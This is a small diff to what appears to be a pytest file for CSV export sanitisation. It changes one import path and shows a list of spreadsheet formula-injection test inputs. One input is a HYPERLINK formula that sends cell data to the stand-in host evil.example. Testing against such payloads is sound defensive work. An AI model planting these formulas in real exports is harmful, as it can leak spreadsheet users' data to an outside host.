@@ -2,7 +2,7 @@
 
 import pytest
 
-from shops.exports import cell, csv_lines
+from shops.common.exports import cell, csv_lines
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
